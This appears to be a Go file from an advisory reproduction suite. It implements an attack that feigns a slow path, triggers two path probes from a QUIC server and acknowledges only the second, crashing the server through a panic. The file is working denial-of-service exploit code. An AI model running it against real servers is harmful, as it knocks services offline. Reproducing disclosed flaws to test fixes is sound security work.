package advisory

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/attacker"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/wire"
)

// Times of the attack loseProbe.
const (
	probeLoss = time.Second             // after which releases give up a path probe
	slowness  = 1300 * time.Millisecond // the round-trip time that the server is led to believe
	noProbe   = 300 * time.Millisecond  // after which no probe for the MTU is expected any more
)

// loseProbe lets the server probe two paths, and acknowledges the second probe only. The
// server then takes the first one off its list of packets, at once. It panics if an older
// packet is still on that list when the probe counts as lost, a second later.
//
// For that, the server must not give up the older packet before, so it has to believe
// that the path is slow. The attack acknowledges a probe for the MTU late, since this is
// a packet that the server does not repeat.
func loseProbe(t *trial) error {
	c, err := dial(t)
	if err != nil {
		return err
	}
	defer c.Close()
	spare := wire.AppendNewConnectionID(nil, 1, 0, []byte("spare-01"))
	spare = wire.AppendNewConnectionID(spare, 2, 0, []byte("spare-02"))
	spare = wire.AppendNewConnectionID(spare, 3, 0, []byte("spare-03"))
	if err := c.SendAll(t.ctx, [][]byte{spare}); err != nil {
		return err
	}
	slow, err := feignSlowness(t.ctx, c)
	if err != nil {
		return err
	}
	if err := askEcho(t.ctx, c, 0); err != nil { // the answer is the older packet
		return err
	}
	older := c.Latest()
	first, err := probe(t.ctx, c)
	if err != nil {
		return err
	}
	second, err := probe(t.ctx, c)
	if err != nil {
		return err
	}
	if !t.release.ProbesPaths {
		if first >= 0 || second >= 0 {
			return errors.New("the server probed a path, which this release is not known to do")
		}
		t.proof.Delivered = true // there is no probe to lose
		c.Silent = false
		return askEcho(t.ctx, c, 4)
	}
	if first < 0 || second < 0 {
		return errors.New("the server did not probe both paths: a packet was lost, or the machine is busy")
	}
	t.proof.Probes = 2
	if !slow || first != older+1 || second != older+2 {
		return fmt.Errorf("the server numbered an answer and two path probes %d, %d and %d, want one after the other; slow: %v", older, first, second, slow)
	}
	if err := c.SendAll(t.ctx, [][]byte{ackOnly(second)}); err != nil {
		return err
	}
	t.proof.Delivered = true
	if err := pause(t.ctx, c, probeLoss+probeLoss/8); err != nil {
		return err
	}
	c.Silent = false
	return askEcho(t.ctx, c, 4)
}

// feignSlowness acknowledges a probe for the MTU late. It returns false if the victim sends
// no probe. The connection is silent then.
func feignSlowness(ctx context.Context, c *attacker.Conn) (bool, error) {
	c.Silent, c.Large = true, nil
	end := time.Now().Add(noProbe)
	for len(c.Large) == 0 && time.Now().Before(end) {
		// A server sends such a probe only when it sends something else.
		if err := c.SendAll(ctx, [][]byte{{wire.TypePing}}); err != nil {
			return false, err
		}
		if err := pause(ctx, c, noProbe/30); err != nil {
			return false, err
		}
	}
	if len(c.Large) == 0 {
		return false, nil
	}
	if err := pause(ctx, c, slowness); err != nil {
		return false, err
	}
	// The server measures the time only if no later packet is acknowledged, too.
	return true, c.SendAll(ctx, [][]byte{ackOnly(c.Large[0])})
}

// ackOnly returns an ACK of one packet.
func ackOnly(number int64) []byte {
	return wire.AppendAck(nil, []wire.Range{{First: number, Last: number}})
}

// pause takes in what the server sends for a while.
func pause(ctx context.Context, c *attacker.Conn, d time.Duration) error {
	end := time.Now().Add(d)
	return c.Await(ctx, func() bool { return time.Now().After(end) })
}

// probe lets the server see the connection at a new address, and returns the number of
// the packet in which it probes the path to it; -1 if it does not.
func probe(ctx context.Context, c *attacker.Conn) (number int64, err error) {
	before := len(c.Challenges)
	number = -1
	err = c.Elsewhere(func() error {
		// The padding asks for no acknowledgement, which would have a number, too.
		if err := c.Send(wire.OneRTT, make([]byte, 16)); err != nil {
			return err
		}
		for i := 0; i < 5 && len(c.Challenges) == before; i++ {
			if err := c.Poll(ctx); err != nil {
				return err
			}
		}
		return nil
	})
	if len(c.Challenges) > before {
		number = c.Challenges[len(c.Challenges)-1].Packet
	}
	return number, err
}
